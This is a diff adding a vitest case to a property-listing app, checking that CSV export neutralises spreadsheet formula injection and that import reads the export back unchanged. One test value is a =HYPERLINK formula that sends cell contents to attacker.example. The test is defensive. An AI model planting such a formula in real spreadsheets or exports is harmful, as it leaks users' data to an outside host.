@@ -5,11 +5,13 @@ import os from "node:os";
 import path from "node:path";
 import { parse } from "csv-parse/sync";
 import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
+import { listingKey } from "~/domain/listing";
 import { CSV_COLUMNS, CSV_MAX_BYTES, CSV_MAX_ROWS } from "~/domain/listing-csv";
 import { DiskImageStore } from "~/features/images/storage.server";
 import type { Db } from "~/shared/db.server";
 import { HttpError } from "~/shared/http-error.server";
 import { dbTargets } from "../../../tests/support/db-targets";
+import { parseStrictCsv } from "../../../tests/support/strict-csv";
 import { exportCsv } from "./csv-export.server";
 import { checkCsv, readyToImport } from "./csv-import.server";
 import { listHistory } from "./history.server";
@@ -329,5 +331,71 @@ describe.each(dbTargets)("listing CSV on $name", (target) => {
     const check = await checkCsv(db, bytes(csv));
     expect(check.ready).toEqual([]);
     expect(check.refused.map((r) => r.line)).toEqual([2, 4]);
+  });
+
+  it("guards formulas and quotes photo lines, and the import reads its own export back unchanged", async () => {
+    await db.query("DELETE FROM listings");
+    const formula = '=HYPERLINK("http://attacker.example/?x="&A1,"Click")';
+    const listings = [
+      {
+        address: "7 Formula Court",
+        description: `${formula}\n- a bullet`,
+        thumbnail_description: "'=already guarded by hand",
+        price: "-1500",
+        photos: ["a", "b", "c"],
+      },
+      {
+        address: "8 Plain Street",
+        description: "'just an apostrophe",
+        thumbnail_description: "@home",
+        price: "+2000",
+        photos: ["d", "e"],
+      },
+    ];
+    for (const l of listings) {
+      await insertListing(db, "properties", listingKey(l.address), {
+        address: l.address,
+        bedrooms: 3,
+        bathrooms: 2,
+        description: l.description,
+        image_urls: l.photos.map((p) => `/images/properties/x/${p}.jpg`),
+        thumbnail_description: l.thumbnail_description,
+        property_type: "Residential",
+        currently_available: true,
+        price: l.price,
+        reserve_url: null,
+      });
+    }
+    const { csv } = await exportCsv(db, (url) => `https://site.example${url}`);
+    // A strict RFC 4180 reader (as spreadsheets read it) sees one row per listing.
+    const records = parseStrictCsv(csv);
+    expect(records).toHaveLength(1 + listings.length);
+    for (const cell of records.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    const at = (column: (typeof CSV_COLUMNS)[number]) => CSV_COLUMNS.indexOf(column);
+    expect(records[1]?.[at("description")]).toBe(`'${formula}\n- a bullet`);
+    expect(records[1]?.[at("thumbnail_description")]).toBe("''=already guarded by hand");
+    expect(records[1]?.[at("photos")]?.split("\n")).toHaveLength(3);
+    expect(records[2]?.[at("description")]).toBe("'just an apostrophe");
+
+    // Read back into an empty table: every field as it was stored.
+    const stored = await Promise.all(
+      listings.map((l) => getListing(db, "properties", listingKey(l.address))),
+    );
+    await db.query("DELETE FROM listings");
+    const ready = await readyToImport(db, bytes(csv));
+    expect(ready).toHaveLength(listings.length);
+    for (const [i, row] of ready.entries()) {
+      const {
+        image_urls: _photos,
+        thumbnail_image_url: _thumb,
+        ...fields
+      } = row.fields as Record<string, unknown>;
+      expect(stored[i]).toMatchObject(fields);
+      expect(fields).toMatchObject({
+        description: listings[i]?.description,
+        thumbnail_description: listings[i]?.thumbnail_description,
+        price: listings[i]?.price,
+      });
+    }
   });
 });
